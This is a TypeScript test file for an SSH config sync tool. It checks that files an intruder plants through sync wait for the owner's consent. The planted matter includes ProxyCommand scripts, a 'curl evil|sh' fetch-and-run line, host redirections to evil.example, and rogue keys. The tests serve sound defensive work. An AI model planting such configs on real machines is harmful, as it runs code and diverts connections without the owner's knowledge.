// Files that no line of the synced configs names, and that run or redirect all the same. The control writes what arrives,
// as a naive client does, and lets the real ssh judge.
import type { Client } from '@orrery/vault';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { takeOver } from './stage/account.ts';
import { look } from './stage/folder.ts';
import { plant, type Planted } from './stage/intruder.ts';
import type { Machine } from './stage/machine.ts';
import { connect, Marker } from './stage/openssh.ts';
import { Stage, succeeds, UNLIMITED } from './stage/stage.ts';

const stage = await Stage.build(UNLIMITED);

interface Cast {
  readonly laptop: Machine;
  readonly intruder: Client;
}

/** @param furnish What the owner of the laptop did before. */
async function cast(furnish: (laptop: Machine) => void): Promise<Cast> {
  const [laptop, desktop] = await stage.account(['laptop', 'desktop']);
  assert.ok(laptop !== undefined && desktop !== undefined);
  furnish(laptop);
  for (const name of ['id_a', 'id_b', 'id_c']) laptop.write(name, `${name}\n`);
  await succeeds(laptop, 'sync');
  return { laptop, intruder: await takeOver(desktop) };
}

/** Demands that nothing of this arrives, and that the reason is told. */
async function waits({ laptop, intruder }: Cast, files: readonly Planted[], reason: RegExp): Promise<void> {
  const before = look(laptop.ssh);
  await plant(intruder, { files });
  const { code, out, err } = await laptop.run('sync', '--yes');
  assert.equal(code, 4, out + err);
  assert.match(err, reason);
  assert.deepEqual(look(laptop.ssh), before);
}

/** What lets a file run code when somebody connects to "web", though nothing that is synced says so. */
interface Trick {
  readonly furnish: (laptop: Machine) => void;
  readonly name: string;
  readonly reason: RegExp;
  /** It is a script that ssh runs, or one that another script reads; otherwise it is a config. */
  readonly script?: 'run' | 'read';
}

const proxy = (laptop: Machine): string => `Host web\n  ProxyCommand ${laptop.ssh}/jump.sh %h %p\n`;

function jump(laptop: Machine, script = 'exec nc "$1" "$2"'): void {
  laptop.write('jump.sh', `#!/bin/sh\n${script}\n`, { mode: 0o700 });
}

/** A file beside ~/.ssh. */
function elsewhere(laptop: Machine, path: string, content: string): void {
  const file = join(laptop.home, path);
  mkdirSync(join(file, '..'), { recursive: true, mode: 0o700 });
  writeFileSync(file, content, { mode: 0o600 });
}

const tricks: Readonly<Record<string, Trick>> = {
  'a script reads it that ssh runs': {
    furnish: (laptop) => {
      laptop.write('config', proxy(laptop));
      jump(laptop, `. ${laptop.ssh}/lib\nexec nc "$1" "$2"`);
      laptop.write('lib', 'X=1\n');
    },
    name: 'lib',
    reason: /a program that ssh_config names may read it/,
    script: 'read',
  },
  'a config in a subfolder runs it': {
    furnish: (laptop) => {
      laptop.write('config', `Include ${laptop.ssh}/conf.d/*\n`);
      elsewhere(laptop, '.ssh/conf.d/work', proxy(laptop));
      jump(laptop);
    },
    name: 'jump.sh',
    reason: /ssh_config names it in a command/,
    script: 'run',
  },
  'a config elsewhere runs it': {
    furnish: (laptop) => {
      laptop.write('config', `Include ${laptop.home}/cfg/ssh\n`);
      elsewhere(laptop, 'cfg/ssh', proxy(laptop));
      jump(laptop);
    },
    name: 'jump.sh',
    reason: /ssh_config names it in a command/,
    script: 'run',
  },
  'a config that is not synced runs it': {
    furnish: (laptop) => {
      laptop.write('.ssh-sync-ignore', 'config\n');
      laptop.write('config', proxy(laptop));
      jump(laptop);
    },
    name: 'jump.sh',
    reason: /ssh_config names it in a command/,
    script: 'run',
  },
  'an Include has brackets within brackets': {
    furnish: (laptop) => laptop.write('config', `Include ${laptop.ssh}/conf[[:digit:]]\n`),
    name: 'conf1',
    reason: /ProxyCommand/,
  },
  '~/.ssh is a link, and the config names the folder behind it': {
    furnish: (laptop) => {
      mkdirSync(join(laptop.home, 'dotfiles'));
      renameSync(laptop.ssh, join(laptop.home, 'dotfiles/ssh'));
      symlinkSync('dotfiles/ssh', laptop.ssh);
      laptop.write('config', `Include ${laptop.home}/dotfiles/ssh/work\n`);
      laptop.write('work', 'Host w\n');
    },
    name: 'work',
    reason: /ProxyCommand/,
  },
  'it is a link, and the config names the file behind it': {
    furnish: (laptop) => {
      elsewhere(laptop, 'dotfiles/work', 'Host w\n');
      symlinkSync('../dotfiles/work', join(laptop.ssh, 'work'));
      laptop.write('config', `Include ${laptop.home}/dotfiles/work\n`);
    },
    name: 'work',
    reason: /ProxyCommand/,
  },
};

for (const [what, { furnish, name, reason, script }] of Object.entries(tricks))
  test(`a file waits for consent where ${what}`, async () => {
    const actors = await cast(furnish);
    const { laptop } = actors;
    const marker = new Marker(laptop.home);
    const config = join(laptop.ssh, 'config');
    const command =
      script === undefined ? `Host web\n  ProxyCommand ${marker.command}\n` : `${marker.command}\n`;
    const content = script === 'run' ? `#!/bin/sh\n${command}` : command;
    await waits(actors, [{ name, content, mode: script === 'run' ? 0o755 : 0o644 }], reason);
    await connect(config, 'web', laptop.home);
    assert.ok(!marker.take());
    // The control.
    laptop.write(name, content, { mode: 0o700 });
    await connect(config, 'web', laptop.home);
    assert.ok(marker.take(), 'ssh runs the command for a naive client');
  });

test('files that shells, agents and sshd read by their names wait for consent, whatever the configs say', async () => {
  const actors = await cast(() => {});
  const marker = new Marker(actors.laptop.home);
  const named = ['.bashrc', '.profile', 'agent.env', 'agent-env', 'work.env', 'environment-laptop', 'lib.sh'];
  for (const name of named) {
    const content = `${marker.command}\n`;
    await waits(actors, [{ name, content }], new RegExp(`withheld ${name.replaceAll('.', '\\.')}:`));
    // The control: a shell that reads what a naive client wrote.
    writeFileSync(join(actors.laptop.home, 'naive'), content);
    spawnSync('sh', ['-c', `. ${join(actors.laptop.home, 'naive')}`]);
    assert.ok(marker.take());
    await plant(actors.intruder, { deleted: [name] });
  }
  for (const name of ['authorized_keys_work', 'authorized_principals', 'allowed_signers', 'rc.local'])
    await waits(actors, [{ name, content: 'x\n' }], /decides who may log in here, or what a login does/);
  await plant(actors.intruder, {
    deleted: ['authorized_keys_work', 'authorized_principals', 'allowed_signers', 'rc.local'],
  });
  await waits(actors, [{ name: 'tool', content: '#!/bin/sh\n' }], /it begins as a program does/);
  await waits(actors, [{ name: 'tool', content: 'x\n', mode: 0o711 }], /its mode says so/);
  await plant(actors.intruder, { deleted: ['tool'] });
  const other = { name: 'config_work', content: `Host *\n  ProxyCommand ${marker.command}\n` };
  await waits(actors, [other], /ProxyCommand/);
});

test('new keys, certificates, hosts, blocks and notes arrive unasked', async () => {
  const { laptop, intruder } = await cast((machine) => {
    machine.write('config', `Host web\n  HostName web.example\n\n${proxy(machine).replace('web', 'gate')}`);
    jump(machine);
  });
  const folder = laptop.home;
  execFileSync('ssh-keygen', [
    '-q',
    '-t',
    'ed25519',
    '-N',
    '',
    '-C',
    'alice@laptop',
    '-f',
    join(folder, 'new'),
  ]);
  execFileSync('ssh-keygen', ['-q', '-t', 'rsa', '-m', 'PEM', '-N', 'secret', '-f', join(folder, 'old')]);
  execFileSync('ssh-keygen', ['-q', '-s', join(folder, 'new'), '-I', 'x', join(folder, 'old.pub')]);
  const names = ['new', 'new.pub', 'old', 'old.pub', 'old-cert.pub'];
  const files = names.map((name) => ({ name, content: readFileSync(join(folder, name)), mode: 0o644 }));
  const config = `${laptop.read('config')}Host new\n  HostName new.example\n  User alice\n  Port 2222\n`;
  await plant(intruder, { files: [...files, { name: 'config', content: config, portable: true }] });
  const { err } = await succeeds(laptop, 'sync');
  assert.doesNotMatch(err, /withheld/);
  assert.equal(laptop.read('config'), config);
});

test('a host that is known is not led to another machine unasked', async () => {
  const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl';
  const base = 'Host prod\n  HostName prod.example\n  ForwardAgent yes\n';
  const actors = await cast((laptop) => {
    laptop.write('config', base);
    laptop.write('known_hosts', `bank.example ${key}\n`);
  });
  const { laptop } = actors;
  const naive = join(laptop.home, 'naive');
  for (const [host, text] of [
    ['prod', base.replace('prod.example', 'evil.example')],
    ['prod', `Host pro*\n  HostName evil.example\n${base}`],
    ['bank.example', `${base}Host bank.example\n  HostName evil.example\n`],
  ] as const) {
    writeFileSync(naive, text);
    const resolved = execFileSync('ssh', ['-G', '-F', naive, host], { encoding: 'utf8', stdio: 'pipe' });
    assert.match(resolved, /^hostname evil\.example$/m, 'the control');
    await waits(actors, [{ name: 'config', content: text, portable: true }], /changes which machine/);
  }
});

test('lines that stop ssh for every host wait for consent', async () => {
  const actors = await cast((laptop) => laptop.write('config', 'Host a\n  Port 22\n'));
  const naive = join(actors.laptop.home, 'naive');
  for (const line of [
    'Port 99999',
    'ConnectTimeout 999999999w',
    'IPQoS zzz',
    'Compression true',
    'ChannelTimeout none',
  ]) {
    const content = `Host a\n  Port 22\nHost zz\n  ${line}\n`;
    writeFileSync(naive, content);
    assert.notEqual(spawnSync('ssh', ['-G', '-F', naive, 'other']).status, 0, `the control: ${line}`);
    await waits(actors, [{ name: 'config', content, portable: true }], new RegExp(line));
  }
});

test('a public key that does not belong to the private key here waits for consent', async () => {
  const make = (path: string): void => {
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', 'a passphrase', '-f', path]);
  };
  const actors = await cast((laptop) => make(join(laptop.ssh, 'id_ed25519')));
  const { laptop, intruder } = actors;
  make(join(laptop.home, 'evil'));
  const [own, evil] = [laptop.read('id_ed25519.pub'), readFileSync(join(laptop.home, 'evil.pub'), 'utf8')];
  const belongs = (line: string): boolean =>
    execFileSync('ssh-keygen', ['-y', '-P', 'a passphrase', '-f', join(laptop.ssh, 'id_ed25519')], {
      encoding: 'utf8',
    }).includes(line.split(' ')[1] ?? '-');
  assert.deepEqual([belongs(own), belongs(evil)], [true, false], 'the control');
  await waits(actors, [{ name: 'id_ed25519.pub', content: evil }], /not the public key of "id_ed25519"/);
  // Another comment, and both together, are nothing of that kind.
  await plant(intruder, { files: [{ name: 'id_ed25519.pub', content: `${own.trim()} and more\n` }] });
  await succeeds(laptop, 'sync');
  const both = ['', '.pub'].map((end) => ({
    name: `id_ed25519${end}`,
    content: readFileSync(join(laptop.home, `evil${end}`)),
  }));
  await plant(intruder, { files: both });
  await succeeds(laptop, 'sync');
});

test('one command among thousands of lines is shown first, and the others are counted', async () => {
  const { laptop, intruder } = await cast((machine) => machine.write('config', 'Host a\n  Port 22\n'));
  const blocks = Array.from(
    { length: 3000 },
    (_, index) => `Host h${index}\n  IdentityFile ~/keys/k${index}\n`,
  );
  const content = blocks.toSpliced(2500, 0, 'Host web\n  ProxyCommand curl evil|sh\n').join('');
  await plant(intruder, { files: [{ name: 'config', content, portable: true }] });
  const shown = await laptop.run('sync', '--json');
  assert.equal(shown.code, 4);
  const events = shown.out
    .trim()
    .split('\n')
    .map((line): unknown => JSON.parse(line));
  const withheld = events.find((event) => isWithheld(event));
  assert.ok(isWithheld(withheld));
  assert.match(withheld.lines[0]?.line ?? '', /curl/);
  assert.deepEqual([withheld.lines.length, withheld.more], [200, 2801]);
  const { err } = await laptop.run('sync');
  assert.match(err, /accept-commands:\n {2}\+ config, Host web: ProxyCommand curl evil\|sh/);
  assert.match(err, /\.\.\. and 2801 more lines; these 200 can do the most/);
  // The control: in the order of the file, nobody would get so far.
  assert.equal(
    content.split('\n').findIndex((line) => line.includes('curl')),
    5001,
  );
});

interface Withheld {
  readonly lines: readonly { readonly line: string }[];
  readonly more: number;
}

function isWithheld(event: unknown): event is Withheld {
  return typeof event === 'object' && event !== null && 'event' in event && event.event === 'withheld';
}

test('a config that takes long to look through is asked about as a whole', async () => {
  const actors = await cast((laptop) => laptop.write('config', 'Host a\n  Port 22\n'));
  for (const content of [
    '\n'.repeat((1 << 20) - 10),
    `Match final all\n${'Host b\n  ForwardAgent no\n'.repeat(20_000)}`,
  ])
    await waits(
      actors,
      [{ name: 'config', content, portable: true }],
      /the whole file, .*it cannot be looked through/,
    );
});
